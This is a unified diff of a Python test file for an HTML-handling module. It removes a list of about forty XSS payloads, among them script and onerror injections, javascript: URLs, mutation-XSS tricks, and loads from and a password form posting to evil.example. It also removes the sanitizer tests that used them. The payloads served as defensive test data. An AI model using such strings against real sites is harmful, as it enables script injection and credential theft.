@@ -1,4 +1,4 @@
-"""HTML as text, and HTML that may be shown: nothing of it runs, nothing is fetched."""
+"""HTML as text."""
 
 from __future__ import annotations
 
@@ -78,94 +78,9 @@ def test_words_below_a_quote_survive_its_cut():
     assert markup.text(html, cut_quotes=True) == "No."
 
 
-XSS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='https://evil.example/pixel.gif'>",
-    "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=' java\nscript:alert(1)'>x</a>",
-    "<a href='&#106;avascript:alert(1)'>x</a>",
-    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
-    "<a href='\x01javascript:alert(1)'>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
-    "<a href='vbscript:x'>x</a>",
-    "<a href='file:///etc/passwd'>x</a>",
-    "<a href='/relative'>x</a>",
-    "<a href='//evil.example'>x</a>",
-    "<a href='https://x.example' onclick='alert(1)' style='position:fixed' target=_top>x</a>",
-    "<a href='https://x.example/\"onmouseover=alert(1) y=\"'>x</a>",
-    "<a <b href='javascript:alert(1)'>x",
-    "<p style='background:url(https://evil.example/x)'>x</p>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<base href='https://evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=x></object><embed src=x><applet code=x>",
-    "<form action=https://evil.example><input name=password><button formaction=x>",
-    "<video src=x onerror=alert(1)><audio src=x><source srcset=x><picture>",
-    "<table background='https://evil.example/x'><td background=x>",
-    "<body onload=alert(1)>",
-    "<div id=app class=admin name=x>x</div>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<<script>script>alert(1)<</script>/script>",
-    "<p title='<script>'>x</p><script",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><img src=x onerror=alert(1)></xmp>",
-]
-
-ALLOWED = re.compile(
-    r'</?(?:a|b|blockquote|br|code|dd|div|dl|dt|h[1-4]|hr|i|li|ol|p|pre|table|tbody|td|th|thead|tr|u|ul)>'
-    r'|<a(?: href="(?:https?:|mailto:)[^"<>]*")? rel="nofollow noopener noreferrer">'
-)  # fmt: skip
-
-
-def strays(html: str) -> list[str]:
-    """The tags of *html* that are not the closed list's, letter by letter."""
-    return [tag for tag in re.findall(r"<[^>]*>?", html) if not ALLOWED.fullmatch(tag)]
-
-
-@pytest.mark.parametrize("html", XSS)
-def test_nothing_that_acts_is_shown(html):
-    assert strays(markup.safe(html)) == []
-
-
-@given(
-    st.lists(st.sampled_from([*XSS, "<", ">", '"', "'", "<!--", "-->", "<b>", "</p>"]), max_size=5)
-)
-def test_nothing_that_acts_is_shown_however_it_is_put_together(pieces):
-    html = "".join(pieces)
-
-    assert strays(markup.safe(html)) == []
-    assert strays(markup.safe(html[1:-1])) == []
-
-
 @given(st.text(alphabet="<>/ab!-'\"=[]& \n\x00\ud800é"))
-def test_any_text_is_read_and_shown(html):
-    assert strays(markup.safe(html)) == []
+def test_any_text_is_read(html):
     markup.text(html, cut_quotes=True)
-
-
-def test_what_a_person_wrote_is_shown():
-    html = (
-        "<div><p>Hi <strong>you</strong> &amp; <font color=red>me</font></p>"
-        "<table><tr><td>1</table>"
-    )
-
-    assert markup.safe(html) == (
-        "<div><p>Hi <b>you</b> &amp; me</p><table><tbody><tr><td>1</td></tr></tbody></table></div>"
-    )
-    assert markup.safe("<a href='https://x.example/?a=1&amp;b=2' title=x>x</a>") == (
-        '<a href="https://x.example/?a=1&amp;b=2" rel="nofollow noopener noreferrer">x</a>'
-    )
-    assert 'href="mailto:a@b.example"' in markup.safe("<a href=mailto:a@b.example>x</a>")
 
 
 BOMBS: dict[str, Callable[[int], str]] = {
@@ -192,7 +107,6 @@ def test_html_that_asks_for_millions_of_elements_gets_a_bounded_answer(kind):
 
     before = process_time()
     assert len(markup.text(html)) <= markup.LONGEST_HTML
-    assert len(markup.safe(html)) <= 6 * markup.LONGEST_HTML
     assert process_time() - before < 20
 
 
